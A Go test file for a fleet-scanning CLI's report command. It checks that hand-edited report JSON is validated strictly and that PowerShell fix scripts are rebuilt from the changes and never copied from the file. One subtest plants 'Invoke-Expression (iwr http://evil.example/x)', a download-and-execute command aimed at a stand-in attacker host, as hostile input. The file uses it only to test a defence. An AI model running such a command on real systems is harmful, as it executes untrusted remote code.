package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// editJSON rewrites a JSON file through a generic map.
func editJSON(t *testing.T, src, dst string, edit func(doc map[string]any)) {
	t.Helper()
	data, err := os.ReadFile(src)
	if err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatal(err)
	}
	edit(doc)
	out, err := json.MarshalIndent(doc, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(dst, out, 0o600); err != nil {
		t.Fatal(err)
	}
}

// replaceScripts sets every "powershell" member of the document to text.
func replaceScripts(v any, text string) int {
	n := 0
	switch x := v.(type) {
	case map[string]any:
		for k, e := range x {
			if k == "powershell" {
				if s, ok := e.(string); ok && s != "" {
					x[k] = text
					n++
				}
				continue
			}
			n += replaceScripts(e, text)
		}
	case []any:
		for _, e := range x {
			n += replaceScripts(e, text)
		}
	}
	return n
}

// TestHandEditedReport: a report file edited by hand is read as strictly
// as the inventory: a value out of range is refused naming the file and
// the field, and the fixes `report` shows are rebuilt from each change,
// never taken from the file's own script text.
func TestHandEditedReport(t *testing.T) {
	t.Parallel()
	invPath, _, env := demoFleet(t)
	dir := t.TempDir()
	orig := filepath.Join(dir, "scan.json")
	if r := run(t, env, "scan", "-i", invPath, "--quiet", "--json", orig); r.code == ExitError {
		t.Fatalf("scan: %s", r.stderr)
	}

	bad := []struct {
		name, field string
		edit        func(doc map[string]any)
	}{
		{"port", "matrix.paths[0].port", func(d map[string]any) { path0(d)["port"] = 70000 }},
		{"kind", "matrix.paths[0].kind", func(d map[string]any) { path0(d)["kind"] = "printer" }},
		{"effect", "matrix.paths[0].reasons[0].effect", func(d map[string]any) {
			path0(d)["reasons"].([]any)[0].(map[string]any)["effect"] = "explodes"
		}},
		{"dword", ".set", func(d map[string]any) {
			for _, c := range d["matrix"].(map[string]any)["plan"].([]any) {
				if m := c.(map[string]any); m["kind"] == "registry-dword" {
					m["set"] = 4294967296
					return
				}
			}
			t.Fatal("the demo plan has no DWORD change")
		}},
		{"evidence state", ".evidence.state", func(d map[string]any) {
			for _, p := range d["matrix"].(map[string]any)["paths"].([]any) {
				if ev, ok := p.(map[string]any)["evidence"].(map[string]any); ok {
					ev["state"] = "proven"
					return
				}
			}
			t.Fatal("the demo report has no path with evidence")
		}},
		{"step", "matrix.plan[0].step", func(d map[string]any) {
			d["matrix"].(map[string]any)["plan"].([]any)[0].(map[string]any)["step"] = "later"
		}},
		{"fail-on", "options.failOn", func(d map[string]any) {
			d["options"].(map[string]any)["failOn"] = "sometimes"
		}},
		{"not comparable", "baseline.notComparable[0].after", func(d map[string]any) {
			d["baseline"] = map[string]any{"notComparable": []any{map[string]any{
				"pathId": "p", "core": "c", "target": "t", "kind": "agent", "nameUsed": "t", "after": "fine", "failedHosts": []any{"t"},
			}}}
		}},
		{"trend", "trend[0].verdicts", func(d map[string]any) {
			d["trend"] = []any{map[string]any{"runId": "r", "generatedAt": "2026-12-01T02:00:00Z", "verdicts": map[string]any{"fine": 3}, "failedHosts": 0}}
		}},
		{"change kind", "matrix.plan[0].kind", func(d map[string]any) {
			d["matrix"].(map[string]any)["plan"].([]any)[0].(map[string]any)["kind"] = "reboot"
		}},
		{"change source", ".source.kind", func(d map[string]any) {
			for _, c := range d["matrix"].(map[string]any)["plan"].([]any) {
				if src, ok := c.(map[string]any)["source"].(map[string]any); ok {
					src["kind"] = "rumour"
					return
				}
			}
			t.Fatal("the demo plan has no change with a source")
		}},
		{"policy sources status", ".facts.policySources.status", func(d map[string]any) {
			for _, h := range d["hosts"].([]any) {
				if f, ok := h.(map[string]any)["facts"].(map[string]any); ok {
					if ps, ok := f["policySources"].(map[string]any); ok {
						ps["status"] = "maybe"
						return
					}
				}
			}
			t.Fatal("the demo report has no host with policy sources")
		}},
	}
	for _, tc := range bad {
		t.Run(tc.name, func(t *testing.T) {
			edited := filepath.Join(dir, tc.name+".json")
			editJSON(t, orig, edited, tc.edit)
			r := run(t, nil, "report", edited, "--format", "csv")
			if r.code != ExitError || !strings.Contains(r.stderr, edited) || !strings.Contains(r.stderr, tc.field) {
				t.Errorf("exit %d, stderr %q: want exit %d naming %s and the field %s", r.code, r.stderr, ExitError, edited, tc.field)
			}
		})
	}

	t.Run("script text", func(t *testing.T) {
		edited := filepath.Join(dir, "scripts.json")
		n := 0
		editJSON(t, orig, edited, func(d map[string]any) { n = replaceScripts(d, "Invoke-Expression (iwr http://evil.example/x)") })
		if n == 0 {
			t.Fatal("the demo report has no script lines")
		}
		for _, format := range []string{"markdown", "html", "table"} {
			want := run(t, nil, "report", orig, "--format", format)
			got := run(t, nil, "report", edited, "--format", format)
			if got.code != want.code || strings.Contains(got.stdout, "evil.example") {
				t.Fatalf("%s: exit %d, the file's script text is shown", format, got.code)
			}
			// The table's plan hint names the file read; nothing else may differ.
			if strings.ReplaceAll(got.stdout, edited, orig) != want.stdout {
				t.Errorf("%s: the edited report renders differently from the original: the lines are not rebuilt from the changes", format)
			}
		}
	})
}

func path0(d map[string]any) map[string]any {
	return d["matrix"].(map[string]any)["paths"].([]any)[0].(map[string]any)
}
